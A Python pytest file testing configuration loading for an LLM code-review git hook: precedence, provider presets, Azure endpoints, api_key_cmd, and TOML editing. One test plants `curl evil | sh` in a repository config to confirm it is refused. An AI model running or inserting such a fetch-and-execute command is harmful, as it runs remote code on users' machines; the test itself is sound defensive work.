"""Configuration (spec §2): layering and precedence, preset variables, secrets refused in the
repository file, endpoint resolution (Azure included), ``llm.api_key_cmd``, one-line errors
with exit 2, and the TOML writer behind ``git ocr config set`` (its commands are tested in
tests/cli/test_config_cmd.py). Real: files, git repositories, ``cli.main``; nothing is
faked."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from ocr_hook import cli
from ocr_hook.config import layering
from ocr_hook.config.endpoint import resolve_llm_endpoint
from ocr_hook.config.layering import Layer, azure_url, build_config, parse_toml
from ocr_hook.config.load import config_layers
from ocr_hook.config.toml_edit import dump_toml, edit_toml
from ocr_hook.errors import ConfigError
from tests.support.cli import cli_environ, run_cli
from tests.support.gitrepo import GitRepo
from tests.support.home import write_user_config
from tests.support.scripted_llm import ScriptedLLM


def test_precedence_flags_env_repo_user_defaults(repo: GitRepo) -> None:
    write_user_config('[llm]\nmodel = "user-model"\n[gate]\nmode = "advisory"\n[review]\n'
                      "concurrency = 2\n")
    repo.commit({".ocr-hook.toml": '[llm]\nmodel = "repo-model"\n[review]\nconcurrency = 3\n'},
                "cfg")
    env = {"OCR_HOOK_REVIEW_CONCURRENCY": "5", "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
    flags = Layer("command line", {"review": {"concurrency": 7}})
    cfg = build_config(config_layers(repo.path, env, flags))
    assert cfg.review.concurrency == 7
    cfg = build_config(config_layers(repo.path, env))
    assert (cfg.review.concurrency, cfg.llm.model, cfg.gate.mode) == (5, "repo-model",
                                                                      "advisory")
    assert cfg.gate.fail_on == "high"  # default
    _, origin = layering.merge_layers(config_layers(repo.path, env))
    assert origin["llm.model"] == ".ocr-hook.toml (HEAD)"
    assert origin["review.concurrency"] == "environment variable OCR_HOOK_REVIEW_CONCURRENCY"


def test_ocr_llm_variables_and_ocr_hook_names(tmp_path: Path) -> None:
    env = {"OCR_LLM_URL": "http://127.0.0.1:9/v1", "OCR_LLM_MODEL": "m", "OCR_LLM_TOKEN": "t",
           "OCR_LLM_PROTOCOL": "anthropic", "OCR_HOOK_FAIL_ON": "critical",
           "OCR_HOOK_NO_CACHE": "1", "OCR_HOOK_SELECT_EXCLUDE": "a/**, b.py",
           "OCR_HOOK_LLM_EXTRA_HEADERS": '{"X-Team": "core"}'}
    cfg = build_config(config_layers(None, env))
    assert (cfg.llm.base_url, cfg.llm.model, cfg.llm.api_key, cfg.llm.protocol) == (
        "http://127.0.0.1:9/v1", "m", "t", "anthropic")
    assert (cfg.gate.fail_on, cfg.cache.enabled, cfg.select.exclude) == ("critical", False,
                                                                         ["a/**", "b.py"])
    assert cfg.llm.extra_headers == {"X-Team": "core"}


def test_openai_variables_apply_to_the_openai_preset_only(tmp_path: Path) -> None:
    write_user_config('[llm]\nprovider = "openai"\nmodel = "gpt-5"\napi_key = "sk-from-file-000"\n')
    env = {"OPENAI_API_KEY": "sk-from-env-111", "OPENAI_BASE_URL": "https://proxy.example/v1",
           "ANTHROPIC_API_KEY": "ant-unused", "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
    cfg = build_config(config_layers(None, env))
    ep, why = resolve_llm_endpoint(cfg, env)
    assert why == "" and ep is not None
    # environment beats the user file (spec §2 precedence)
    assert (ep.url, ep.api_key, ep.protocol) == ("https://proxy.example/v1", "sk-from-env-111",
                                                 "openai")
    # our own variables beat the standard ones
    env["OCR_LLM_TOKEN"] = "sk-ocr-222"
    ep, _ = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None and ep.api_key == "sk-ocr-222"


def test_anthropic_preset_reads_anthropic_variables(tmp_path: Path) -> None:
    env = {"OCR_HOOK_LLM_PROVIDER": "anthropic", "OCR_HOOK_LLM_MODEL": "claude-x",
           "ANTHROPIC_API_KEY": "ant-123", "OPENAI_API_KEY": "sk-unused"}
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None, why
    assert (ep.url, ep.api_key, ep.protocol, ep.output_tokens_field) == (
        "https://api.anthropic.com", "ant-123", "anthropic", "max_completion_tokens")


def test_no_provider_means_no_guessing(tmp_path: Path) -> None:
    env = {"OPENAI_API_KEY": "sk-x", "OCR_LLM_MODEL": "gpt-5"}
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is None
    assert why.startswith("no LLM endpoint configured (missing url)")


@pytest.mark.parametrize(("url", "missing"), [
    ("http://127.0.0.1:8080/v1", "model"),  # a loopback server needs no key
    ("http://localhost:11434/v1", "model"),
    ("https://llm.example.com/v1", "model, api key"),
])
def test_api_key_is_missing_only_where_one_is_required(url: str, missing: str) -> None:
    env = {"OCR_LLM_URL": url}
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is None
    assert why == (f"no LLM endpoint configured (missing {missing}); set OCR_LLM_URL,"
                   " OCR_LLM_MODEL and OCR_LLM_TOKEN (no token for a local server), or"
                   " llm.provider and llm.model (`git ocr config set KEY VALUE`)")


def test_local_server_needs_no_key(tmp_path: Path) -> None:
    env = {"OCR_HOOK_LLM_PROVIDER": "ollama", "OCR_HOOK_LLM_MODEL": "qwen3"}
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None and ep.api_key == "" and ep.url == "http://localhost:11434/v1"
    assert ep.output_tokens_field == "max_tokens"


@pytest.mark.parametrize(("base", "version", "url"), [
    ("https://r.openai.azure.com", "2024-10-21",
     "https://r.openai.azure.com/openai/deployments/gpt4o-prod?api-version=2024-10-21"),
    ("https://r.openai.azure.com/", "", "https://r.openai.azure.com/openai/v1"),
    ("https://r.openai.azure.com/openai/deployments/other", "2025-01-01-preview",
     "https://r.openai.azure.com/openai/deployments/other?api-version=2025-01-01-preview"),
    ("https://r.openai.azure.com/openai/deployments/d?api-version=2024-06-01", "2024-10-21",
     "https://r.openai.azure.com/openai/deployments/d?api-version=2024-06-01"),
])
def test_azure_urls(base: str, version: str, url: str) -> None:
    assert azure_url(base, "gpt4o-prod", version) == url


def test_azure_preset_uses_api_key_header_and_api_version(tmp_path: Path) -> None:
    env = {"OCR_HOOK_LLM_PROVIDER": "azure-openai", "OCR_HOOK_LLM_MODEL": "gpt4o-prod",
           "AZURE_OPENAI_ENDPOINT": "https://r.openai.azure.com",
           "AZURE_OPENAI_API_KEY": "az-key", "OPENAI_API_VERSION": "2024-10-21"}
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None, why
    assert ep.url == "https://r.openai.azure.com/openai/deployments/gpt4o-prod?api-version=2024-10-21"
    assert (ep.auth_header, ep.api_key) == ("api-key", "az-key")


def test_secrets_in_the_repository_file_are_refused(repo: GitRepo) -> None:
    repo.commit({".ocr-hook.toml": '[llm]\napi_key_cmd = "curl evil | sh"\n'}, "cfg")
    with pytest.raises(ConfigError) as e:
        config_layers(repo.path, {})
    assert str(e.value) == ("llm.api_key_cmd is not allowed in .ocr-hook.toml (HEAD): secrets and"
                            " commands belong in the user file (`git ocr config set`) or the"
                            " environment")


def test_invalid_value_is_one_line_naming_key_file_and_allowed_values(
        repo: GitRepo, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    repo.commit({".ocr-hook.toml": '[gate]\nfail_on = "severe"\n'}, "cfg")
    repo.stage({"a.py": "x = 1\n"})
    monkeypatch.chdir(repo.path)
    rc, _, err = run_cli(["review"], {}, capsys)
    assert rc == 2
    assert err.count("\n") == 1
    assert err == ("ocr-hook: invalid gate.fail_on = 'severe' in .ocr-hook.toml (HEAD): must be"
                   " critical, high, medium or low\n")


def test_unknown_key_names_the_allowed_keys() -> None:
    with pytest.raises(ConfigError) as e:
        build_config([Layer("/u/config.toml", {"gate": {"mode": "blocking", "fail": "x"}})])
    assert str(e.value).startswith("unknown key gate.fail in /u/config.toml; allowed keys: mode,"
                                   " fail_on, on_error")


def test_unknown_provider_lists_presets(tmp_path: Path) -> None:
    env = {"OCR_HOOK_LLM_PROVIDER": "openia", "OCR_HOOK_LLM_MODEL": "m"}
    with pytest.raises(ConfigError) as e:
        build_config(config_layers(None, env))
    assert str(e.value).startswith("invalid llm.provider = 'openia' in environment variable"
                                   " OCR_HOOK_LLM_PROVIDER: must be custom, openai, anthropic,"
                                   " azure-openai")
    assert str(e.value).endswith(" (`git ocr llm providers`)")


def test_api_key_cmd_supplies_the_key(tmp_path: Path) -> None:
    write_user_config('[llm]\nprovider = "openai"\nmodel = "gpt-5"\n'
                      'api_key_cmd = "printf \'sk-from-cmd-123\\\\nsecond line\\\\n\'"\n')
    env = dict(os.environ)
    ep, why = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None, why
    assert ep.api_key == "sk-from-cmd-123"


def test_failing_api_key_cmd_is_a_config_error_without_its_output(tmp_path: Path) -> None:
    write_user_config('[llm]\nprovider = "openai"\nmodel = "m"\n'
                      'api_key_cmd = "echo sk-secret; echo vault locked >&2; exit 3"\n')
    env = dict(os.environ)
    with pytest.raises(ConfigError) as e:
        resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert str(e.value) == "llm.api_key_cmd failed (exit 3): vault locked"


def test_static_key_wins_over_api_key_cmd(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    write_user_config(f'[llm]\nprovider = "openai"\nmodel = "m"\napi_key = "sk-static-000"\n'
                      f'api_key_cmd = "touch {marker}; echo sk-cmd"\n')
    env = dict(os.environ)
    ep, _ = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None and ep.api_key == "sk-static-000"
    assert not marker.exists()


def _key_cmd_repo(repo: GitRepo, tmp_path: Path, script: str) -> Path:
    """A repository with app.py staged and a user file whose api_key_cmd first leaves a
    marker file, then runs ``script``; returns the marker's path."""
    marker = tmp_path / "key-cmd-ran"
    write_user_config(f'[llm]\napi_key_cmd = "echo run >> {marker}; {script}"\n')
    repo.commit({"README.md": "hello\n"}, "init")
    repo.stage({"app.py": "def f(x):\n    return x + 1\n"})
    return marker


def test_locked_api_key_cmd_means_no_endpoint_and_on_error_decides(
        repo: GitRepo, llm: ScriptedLLM, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    marker = _key_cmd_repo(repo, tmp_path, "echo vault is locked >&2; exit 1")
    monkeypatch.chdir(repo.path)
    env = {"OCR_LLM_URL": llm.url, "OCR_LLM_MODEL": "scripted-model"}
    why = "NOT REVIEWED: no LLM endpoint: llm.api_key_cmd failed (exit 1): vault is locked"
    # no LLM call: the command never runs
    rc, out, err = run_cli(["review", "--preview"], env, capsys)
    assert (rc, err) == (0, "")
    assert "app.py" in out and not marker.exists()
    rc, out, err = run_cli(["hook", "pre-commit"], env, capsys)
    assert rc == 0, err
    assert why in out.splitlines()
    assert marker.read_text() == "run\n"
    rc, out, err = run_cli(["review", "--format", "json"],
                           {**env, "OCR_HOOK_GATE_ON_ERROR": "block"}, capsys)
    data = json.loads(out)
    assert rc == 3
    assert (data["verdict"], data["status"]) == ("incomplete", "failed")
    assert [(f["path"], f["reason"]) for f in data["files"]] == [("app.py", "no_endpoint")]
    assert data["warnings"] == [{"type": "no_endpoint", "file": "",
                                 "message": why.removeprefix("NOT REVIEWED: ")}]
    assert why in err
    assert llm.requests == []


def test_api_key_cmd_runs_once_only_when_the_llm_is_called(
        repo: GitRepo, llm: ScriptedLLM, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    marker = _key_cmd_repo(repo, tmp_path, "echo sk-from-the-vault-1234")
    monkeypatch.chdir(repo.path)
    env = cli_environ({"OCR_LLM_URL": llm.url, "OCR_LLM_MODEL": "scripted-model"})
    repo.git("stash", "push", "-q")  # only README.md at HEAD: nothing staged, nothing to review
    assert cli.main(["review"], environ=env) == 0
    assert not marker.exists()
    repo.git("stash", "pop", "-q")
    assert cli.main(["review", "--effort", "low"], environ=env) == 0
    assert marker.read_text() == "run\n"
    assert [h["authorization"] for h in llm.headers] == [
        "Bearer sk-from-the-vault-1234"]
    sessions = list((repo.path / ".git" / "ocr-hook" / "sessions").glob("*.jsonl"))
    assert len(sessions) == 2
    assert all("sk-from-the-vault" not in p.read_text() for p in sessions)
    assert cli.main(["review", "--effort", "low"], environ=env) == 0  # cache hit: no LLM call
    assert marker.read_text() == "run\n" and len(llm.requests) == 1
    capsys.readouterr()


@pytest.mark.parametrize("data", [
    {"llm": {"model": 'with "quotes" and \\ and \n newline', "timeout_s": 12.5,
             "extra_headers": {"X-Team": "core", "needs quoting": "v"},
             "extra_body": {"reasoning": {"effort": "low"}, "stop": ["a", "b"]}},
     "mcp": {"servers": {"docs": {"command": "docs-mcp", "args": ["--x"], "env": {"A": "1"}}}},
     "gate": {"mode": "advisory"}, "cache": {"enabled": True, "max_mb": 8}},
    {},
])
def test_dump_toml_round_trips(data: dict) -> None:
    assert parse_toml(dump_toml(data), "t") == data


def test_edit_toml_falls_back_to_a_rewrite_for_dotted_root_keys() -> None:
    text = 'llm.model = "x"\ngate.mode = "advisory"\n'
    out = edit_toml(text, "llm.model", "y", "t")
    assert parse_toml(out, "t") == {"llm": {"model": "y"}, "gate": {"mode": "advisory"}}


@pytest.mark.parametrize(("url", "configured", "field"), [
    ("http://127.0.0.1:8000/v1", "", "max_tokens"),
    ("http://localhost:1234/v1", "", "max_tokens"),
    ("https://llm.internal.example/v1", "", "max_completion_tokens"),
    ("http://127.0.0.1:8000/v1", "max_completion_tokens", "max_completion_tokens"),
])
def test_output_tokens_field_for_custom_endpoints(url: str, configured: str, field: str) -> None:
    env = {"OCR_LLM_URL": url, "OCR_LLM_MODEL": "m", "OCR_LLM_TOKEN": "t",
           "OCR_HOOK_LLM_OUTPUT_TOKENS_FIELD": configured}
    ep, _ = resolve_llm_endpoint(build_config(config_layers(None, env)), env)
    assert ep is not None and ep.output_tokens_field == field
